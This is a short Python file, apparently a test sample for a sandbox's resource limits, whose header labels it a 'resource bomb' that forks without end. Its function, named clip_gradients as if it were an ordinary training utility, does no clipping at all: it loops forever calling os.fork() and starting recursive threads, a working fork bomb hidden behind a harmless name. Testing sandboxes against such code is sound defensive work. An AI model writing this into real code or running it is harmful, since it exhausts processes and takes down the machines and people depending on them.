# ---
# about = "fork without end"
# kind = "skeleton"
# class = "resource bombs"
# written = "inside"
# attacks = ["clip_gradients"]
# tries = "fork without end"
# holds = "the limit on processes holds; everything is killed afterwards"
# ---

# %%
import os
import threading


def clip_gradients(gradients, max_norm=1.0):
    while True:
        try:
            os.fork()
            threading.Thread(target=clip_gradients, args=(gradients,)).start()
        except (OSError, RuntimeError):
            continue
